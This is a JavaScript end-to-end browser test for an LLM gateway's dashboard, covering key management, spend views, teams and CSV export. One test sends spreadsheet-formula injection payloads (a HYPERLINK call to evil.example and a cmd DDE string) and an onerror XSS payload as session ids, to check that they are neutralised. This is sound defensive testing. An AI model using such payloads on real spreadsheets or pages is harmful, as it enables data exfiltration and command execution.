// The dashboard end to end, in headless Chromium against the real `svc` binary: sign in, create a key and see
// its secret once, see a request's spend appear on Overview and Spend without a reload, export session ids and
// client names chosen to look like spreadsheet formulas (and HTML) and find them written as text, revoke the
// key, create, edit and delete a runtime team (a config-file team is read-only), send a dead event again; then
// a screenshot of every page (desktop and phone) in target/ui-artifacts/.

import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { MASTER, ROOT, startGateway, freePort, admin, chat, launch } from './lib/gateway.js';
import { parseCsv, DANGEROUS_START } from './lib/csv.js';

const ARTIFACTS = join(ROOT, 'target', 'ui-artifacts');
const PAGES = ['overview', 'keys', 'spend', 'requests', 'events', 'models', 'fleet'];
const WAIT = { timeout: 15000 };

describe('dashboard', { timeout: 180000 }, () => {
  let gw;
  let browser;
  let page;
  let hookPort;
  let receiver;
  let secret;
  const problems = [];

  before(async () => {
    mkdirSync(ARTIFACTS, { recursive: true });
    hookPort = await freePort();
    gw = await startGateway({ webhookPort: hookPort });
    browser = await launch();
    page = await browser.newPage({ viewport: { width: 1366, height: 860 } });
    page.setDefaultTimeout(15000);
    page.on('pageerror', (e) => problems.push(`page error: ${e.message}`));
    // Offline: the dashboard never asks another host for anything.
    page.on('request', (r) => {
      if (!r.url().startsWith(gw.url) && !r.url().startsWith('blob:') && !r.url().startsWith('data:')) problems.push(`outside request: ${r.url()}`);
    });
    // 401 and 403 are asked for on purpose, and so is the 409 of a team named like one of the config file.
    page.on('console', (m) => {
      if (m.type() === 'error' && !/status of 40[139]/.test(m.text())) problems.push(`console: ${m.text()}`);
    });
  });

  after(async () => {
    if (receiver) await new Promise((res) => receiver.close(res));
    if (browser) await browser.close();
    if (gw) await gw.stop();
  });

  const ready = (id) => page.waitForSelector(`main[data-ready="${id}"]`, WAIT);
  const go = async (id) => {
    await page.click(`nav a[data-page="${id}"]`);
    await ready(id);
  };

  it('refuses a wrong key, then signs in with the master key', async () => {
    await page.goto(`${gw.url}/ui`);
    await page.waitForSelector('#master-key');
    await page.fill('#master-key', 'sk-not-the-master-key');
    await page.click('button[type=submit]');
    await page.waitForSelector('.signin .error:has-text("neither the master key nor a virtual key")');
    await page.screenshot({ path: join(ARTIFACTS, 'signin.png') });
    await page.fill('#master-key', MASTER);
    await page.click('button[type=submit]');
    await ready('overview');
    const cookies = await page.context().cookies();
    const session = cookies.find((c) => c.name === 'svc_session');
    assert.ok(session, 'a session cookie');
    assert.equal(session.httpOnly, true);
    assert.equal(session.sameSite, 'Strict');
    assert.equal(await page.evaluate(() => document.cookie), '', 'the cookie is out of the script’s reach');
  });

  it('creates a key and shows its secret once', async () => {
    await go('keys');
    await page.click('#new-key');
    await page.selectOption('dialog select[name=team_id]', 'executor');
    await page.fill('dialog input[name=key_alias]', 'planner-1');
    await page.fill('dialog input[name=agent_role]', 'planner');
    await page.fill('dialog input[name=max_budget]', '2.5');
    await page.click('dialog button[type=submit]');
    const code = await page.waitForSelector('#new-secret', WAIT);
    secret = (await code.textContent()).trim();
    assert.match(secret, /^sk-/);
    await page.screenshot({ path: join(ARTIFACTS, 'keys-secret.png') });
    await page.click('dialog button.primary');
    // The dialog leaves the page on its `close` event, a task after the click: wait for that, not for the row
    // (which the list may show before the dialog is gone).
    await page.waitForSelector('#new-secret', { state: 'detached' });
    await page.waitForSelector('td[data-key="planner-1"]');
    assert.ok(!(await page.content()).includes(secret), 'the secret is gone once the dialog is closed');
    await page.reload();
    await ready('keys');
    await page.waitForSelector('td[data-key="planner-1"]');
    assert.ok(!(await page.content()).includes(secret), 'and not shown again after a reload');
  });

  it('rotates the key: a new secret, shown once, and the old one refused', async () => {
    const row = page.locator('tr', { has: page.locator('td[data-key="planner-1"]') });
    await row.locator('button:has-text("Rotate")').click();
    await page.click('dialog button.primary');
    const code = await page.waitForSelector('#new-secret', WAIT);
    const rotated = (await code.textContent()).trim();
    assert.match(rotated, /^sk-/);
    assert.notEqual(rotated, secret);
    await page.click('dialog button.primary');
    await page.waitForSelector('#new-secret', { state: 'detached' });
    assert.equal((await chat(gw.url, secret)).status, 401, 'the old secret stops working at once');
    secret = rotated;
  });

  it('shows a request’s spend on Overview and Spend without a reload', async () => {
    await go('overview');
    await page.waitForSelector('[data-today="executor"]');
    assert.equal((await page.textContent('[data-today="executor"]')).trim(), '0.00');
    await page.evaluate(() => { window.__notReloaded = true; });
    const resp = await chat(gw.url, secret);
    assert.equal(resp.status, 200, await resp.text());
    await page.waitForFunction(() => {
      const cell = document.querySelector('[data-today="executor"]');
      return cell && Number(cell.textContent.replace(/[^0-9.]/g, '')) > 0;
    }, null, WAIT);
    await page.waitForFunction(() => Number(document.querySelector('[data-kpi="Requests / s"] .sub').textContent.replace(/[^0-9]/g, '')) >= 1, null, WAIT);
    assert.equal(await page.evaluate(() => window.__notReloaded), true, 'no reload happened');
    await go('spend');
    await page.waitForFunction(() => {
      const cell = document.querySelector('[data-spend="executor"]');
      return cell && Number(cell.textContent.replace(/[^0-9.]/g, '')) > 0;
    }, null, WAIT);
    await page.evaluate(() => { window.__notReloaded = true; });
    const before = await page.textContent('#spend-total');
    assert.equal((await chat(gw.url, secret)).status, 200);
    await page.waitForFunction((old) => document.querySelector('#spend-total').textContent !== old, before, WAIT);
    assert.equal(await page.evaluate(() => window.__notReloaded), true);
    await page.selectOption('#group-by', 'role');
    await page.waitForSelector('[data-spend="planner"]');
    const download = page.waitForEvent('download');
    await page.click('#export-csv');
    const file = await (await download).createReadStream();
    let text = '';
    for await (const chunk of file) text += chunk;
    assert.match(text, /^group,requests,prompt_tokens,completion_tokens,spend\r\nplanner,2,/);
  });

  it('exports client-chosen session ids and client names as text a spreadsheet does not run', async () => {
    const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"open")';
    const sessions = [HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", '+1+1', '-2+3', '<img src=x onerror="window.__xss=1">'];
    for (const session of sessions) {
      const resp = await chat(gw.url, secret, undefined, undefined, { 'x-session-id': session });
      assert.equal(resp.status, 200, await resp.text());
    }
    const ua = await chat(gw.url, secret, undefined, undefined, { 'User-Agent': '@evil-client/1.0 (=cmd)' });
    assert.equal(ua.status, 200, await ua.text());

    const exported = async () => {
      const download = page.waitForEvent('download');
      await page.click('#export-csv');
      const got = await download;
      let text = '';
      for await (const chunk of await got.createReadStream()) text += chunk;
      return { name: got.suggestedFilename(), text, rows: parseCsv(text) };
    };
    const noDangerousCell = (rows) => {
      for (const row of rows) {
        for (const cell of row) assert.doesNotMatch(cell, DANGEROUS_START, `a cell starts like a formula: ${JSON.stringify(row)}`);
      }
    };

    await go('spend');
    await page.selectOption('#group-by', 'session');
    // The table shows each session id as text (no element made of it, nothing run).
    await page.waitForFunction((ids) => {
      const shown = [...document.querySelectorAll('#content table span.mono')].map((s) => s.textContent);
      return ids.every((id) => shown.includes(id));
    }, sessions, WAIT);
    const cells = await page.evaluate((ids) => [...document.querySelectorAll('#content table span.mono')]
      .filter((s) => ids.includes(s.textContent))
      .map((s) => ({ text: s.textContent, children: s.childElementCount })), sessions);
    assert.equal(cells.length, sessions.length);
    assert.ok(cells.every((c) => c.children === 0), JSON.stringify(cells));
    assert.equal(await page.locator('#content img').count(), 0, 'no <img> made of a session id');
    assert.equal(await page.evaluate(() => window.__xss), undefined, 'no handler of a session id ran');

    const bySession = await exported();
    assert.equal(bySession.name, 'svc-spend-by-session.csv');
    assert.deepEqual(bySession.rows[0], ['group', 'requests', 'prompt_tokens', 'completion_tokens', 'spend']);
    assert.ok(bySession.text.includes('\r\n"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")",1,'), bySession.text);
    const byLabel = new Map(bySession.rows.slice(1).map((r) => [r[0], r]));
    assert.ok(byLabel.has(`'${HYPERLINK}`), bySession.text);
    assert.ok(byLabel.has("'@SUM(1+1)*cmd|' /C calc'!A0"), bySession.text);
    assert.ok(byLabel.has("'+1+1"), bySession.text);
    assert.ok(byLabel.has("'-2+3"), bySession.text);
    assert.ok(byLabel.has('<img src=x onerror="window.__xss=1">'), bySession.text);
    for (const row of bySession.rows.slice(1)) {
      assert.equal(row.length, 5, JSON.stringify(row));
      for (const n of row.slice(1)) assert.match(n, /^\d+(\.\d+)?(e-\d+)?$/, `numbers stay numbers: ${JSON.stringify(row)}`);
    }
    noDangerousCell(bySession.rows);

    await page.selectOption('#group-by', 'client');
    await page.waitForFunction(() => [...document.querySelectorAll('#content table td')].some((td) => td.textContent === '@evil-client'), null, WAIT);
    const byClient = await exported();
    assert.equal(byClient.name, 'svc-spend-by-client.csv');
    assert.ok(byClient.rows.some((r) => r[0] === "'@evil-client"), byClient.text);
    noDangerousCell(byClient.rows);

    // The Requests page shows the session ids as text too.
    await go('requests');
    await page.waitForFunction((id) => [...document.querySelectorAll('#content table .sub')].some((s) => s.textContent.includes(id)), HYPERLINK, WAIT);
    // Each request's Spend cell says where its money went, part by part.
    const parts = await page.locator('#content td[data-parts] .sub').allTextContents();
    assert.ok(parts.some((t) => /^in \S+ · out \S+/.test(t)), parts.join(' | '));
    assert.equal(await page.locator('#content img').count(), 0);
    assert.equal(await page.evaluate(() => window.__xss), undefined);
  });

  it('shows a key’s own team, read-only, to someone signed in with that key', async () => {
    const context = await browser.newContext({ viewport: { width: 1366, height: 860 } });
    const viewer = await context.newPage();
    try {
      viewer.on('pageerror', (e) => problems.push(`team view page error: ${e.message}`));
      await viewer.goto(`${gw.url}/ui`);
      await viewer.fill('#master-key', secret);
      await viewer.click('button[type=submit]');
      await viewer.waitForSelector('main[data-ready="team"]', WAIT);
      const links = await viewer.locator('nav a').allTextContents();
      assert.deepEqual(links.map((t) => t.trim()), ['My team', 'Spend', 'Requests']);
      await viewer.waitForFunction(() => Number(document.querySelector('#team-spend-today').textContent.replace(/[^0-9.]/g, '')) > 0, null, WAIT);
      assert.match(await viewer.textContent('#who'), /team executor/);
      await viewer.screenshot({ path: join(ARTIFACTS, 'team-view.png'), fullPage: true });
      await viewer.goto(`${gw.url}/ui#/keys`);
      await viewer.waitForSelector('main[data-ready="team"]', WAIT);
      const write = await viewer.evaluate(async () => (await fetch('/key/generate', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{"team_id":"executor"}' })).status);
      assert.equal(write, 403);
    } finally {
      await context.close();
    }
  });

  it('revokes the key', async () => {
    await go('keys');
    const row = page.locator('tr', { has: page.locator('td[data-key="planner-1"]') });
    await row.locator('button:has-text("Revoke")').click();
    await page.click('dialog button.primary');
    await row.locator('.pill:has-text("revoked")').waitFor(WAIT);
    const refused = await chat(gw.url, secret);
    assert.equal(refused.status, 401);
    await page.screenshot({ path: join(ARTIFACTS, 'keys-revoked.png') });
  });

  it('creates, edits and deletes a runtime team; a config-file team is read-only', async () => {
    await go('keys');
    const teamRow = (id) => page.locator('tr', { has: page.locator(`td[data-team="${id}"]`) });
    const toastOk = (text) => page.locator('.toast.ok', { hasText: text }).waitFor(WAIT);

    // A team of the config file: where it comes from, and no button to change it.
    const executor = teamRow('executor');
    await executor.waitFor(WAIT);
    assert.equal((await executor.locator('td[data-origin]').textContent()).trim(), 'file');
    assert.equal(await executor.locator('button').count(), 0, 'no Edit or Delete for a config-file team');
    const filePill = executor.locator('.pill', { hasText: 'config file' });
    assert.match(await filePill.getAttribute('title'), /config file.*svc reload/);

    // Its name cannot be taken by a runtime team: the gateway's 409 names the config file.
    await page.click('#new-team');
    await page.fill('dialog input[name=team_id]', 'executor');
    await page.click('dialog button[type=submit]');
    await page.locator('.toast:not(.ok)', { hasText: 'defined in the config file' }).waitFor(WAIT);

    // Create.
    await page.click('#new-team');
    await page.fill('dialog input[name=team_id]', 'night-shift');
    await page.fill('dialog input[name=team_alias]', 'Night shift');
    await page.fill('dialog input[name=models]', 'openai/gpt-4.1-mini');
    await page.fill('dialog input[name=max_budget]', '5');
    await page.fill('dialog input[name=budget_duration]', '2d');
    await page.fill('dialog input[name=rpm_limit]', '60');
    await page.click('dialog button[type=submit]');
    await toastOk('Team created');
    const night = teamRow('night-shift');
    await night.waitFor(WAIT);
    assert.equal((await night.locator('td[data-origin]').textContent()).trim(), 'api');
    assert.match(await night.textContent(), /Night shift/);
    assert.match(await night.textContent(), /openai\/gpt-4\.1-mini/);
    assert.match(await night.textContent(), /60 rpm/);
    await night.locator('.budget .caption', { hasText: '/ 5.00' }).waitFor(WAIT);
    const listed = (await admin(gw.url, '/team/list')).data.find((t) => t.team_id === 'night-shift');
    assert.equal(listed.defined_in, 'api');
    assert.equal(listed.max_budget, 5);
    assert.equal(listed.budget_duration, '2d');
    assert.deepEqual(listed.models, ['openai/gpt-4.1-mini']);
    await page.screenshot({ path: join(ARTIFACTS, 'keys-teams.png'), fullPage: true });

    // Edit: the form holds what the team has; a new budget shows at once.
    await night.locator('button:has-text("Edit")').click();
    assert.equal(await page.inputValue('dialog input[name=max_budget]'), '5');
    assert.equal(await page.inputValue('dialog input[name=budget_duration]'), '2d');
    assert.equal(await page.inputValue('dialog input[name=models]'), 'openai/gpt-4.1-mini');
    assert.equal(await page.inputValue('dialog input[name=rpm_limit]'), '60');
    assert.equal(await page.inputValue('dialog input[name=team_alias]'), 'Night shift');
    await page.fill('dialog input[name=max_budget]', '7.5');
    await page.screenshot({ path: join(ARTIFACTS, 'keys-team-edit.png') });
    await page.click('dialog button[type=submit]');
    await toastOk('Team saved');
    await night.locator('.budget .caption', { hasText: '/ 7.50' }).waitFor(WAIT);
    assert.equal((await admin(gw.url, '/team/list')).data.find((t) => t.team_id === 'night-shift').max_budget, 7.5);

    // Delete, with its key: the dialog says so, and the key goes too.
    const key = (await admin(gw.url, '/key/generate', { team_id: 'night-shift', key_alias: 'night-1' })).data.key;
    assert.equal((await chat(gw.url, key)).status, 200);
    // The page's next refresh shows the key, and the team's count of keys the dialog will name.
    await page.waitForSelector('td[data-key="night-1"]', WAIT);
    await page.waitForFunction(() => {
      const cell = document.querySelector('td[data-team="night-shift"]');
      return cell && cell.closest('tr').children[4].textContent === '1';
    }, null, WAIT);
    await night.locator('button:has-text("Delete")').click();
    assert.match(await page.textContent('dialog p'), /night-shift and its 1 key are deleted/);
    await page.click('dialog button.primary');
    await toastOk('Team deleted with 1 key');
    await night.waitFor({ state: 'detached', ...WAIT });
    await page.waitForSelector('td[data-key="night-1"]', { state: 'detached', ...WAIT });
    assert.equal((await chat(gw.url, key)).status, 401, 'the team’s key is refused once the team is gone');
    assert.ok(!(await admin(gw.url, '/team/list')).data.some((t) => t.team_id === 'night-shift'));
    await teamRow('research').waitFor(WAIT);
  });

  it('sends a dead event again and sees it delivered', async () => {
    const posted = await admin(gw.url, '/events', { event: 'task.blocked', data: { task: 'release-42', message: 'integration tests failed' } });
    const id = Number(posted.headers.get('x-svc-outbox-id'));
    assert.ok(id > 0);
    await go('events');
    const dead = `td[data-event="${id}"] .delivery[data-state="dead"][data-destination^="webhook:"]`;
    await page.waitForSelector(dead, { timeout: 30000 });
    await page.screenshot({ path: join(ARTIFACTS, 'events-dead.png') });
    const got = [];
    receiver = createServer((req, res) => {
      let body = '';
      req.on('data', (c) => { body += c; });
      req.on('end', () => {
        got.push({ event: req.headers['x-svc-event'], body });
        res.writeHead(204).end();
      });
    });
    await new Promise((res) => receiver.listen(hookPort, '127.0.0.1', res));
    await page.click(`${dead} button:has-text("Deliver again")`);
    await page.waitForSelector(`td[data-event="${id}"] .delivery[data-state="delivered"][data-destination^="webhook:"]`, { timeout: 30000 });
    assert.ok(got.some((g) => g.event === 'task.blocked' && g.body.includes('release-42')), JSON.stringify(got));
  });

  it('takes a screenshot of every page, desktop and phone', async () => {
    for (const id of PAGES) {
      await go(id);
      // The request rates need two readings; the chart and tables their data.
      if (id === 'overview') await page.waitForFunction(() => document.querySelector('[data-kpi="Requests / s"] .value').textContent !== '—', null, WAIT);
      await page.screenshot({ path: join(ARTIFACTS, `${id}.png`), fullPage: true });
    }
    const phone = await browser.newPage({ viewport: { width: 375, height: 812 }, deviceScaleFactor: 2, isMobile: true, hasTouch: true });
    await phone.context().addCookies(await page.context().cookies());
    for (const id of PAGES) {
      await phone.goto(`${gw.url}/ui#/${id}`);
      await phone.waitForSelector(`main[data-ready="${id}"]`, WAIT);
      const overflow = await phone.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
      assert.ok(overflow <= 0, `${id}: the page is ${overflow}px wider than a phone`);
      await phone.screenshot({ path: join(ARTIFACTS, `phone-${id}.png`), fullPage: true });
    }
    await phone.close();
    assert.deepEqual(problems, []);
  });

  it('signs out', async () => {
    await page.click('.side-foot button');
    await page.waitForSelector('#master-key');
    const resp = await page.evaluate(async () => (await fetch('/key/list')).status);
    assert.equal(resp, 401);
  });
});
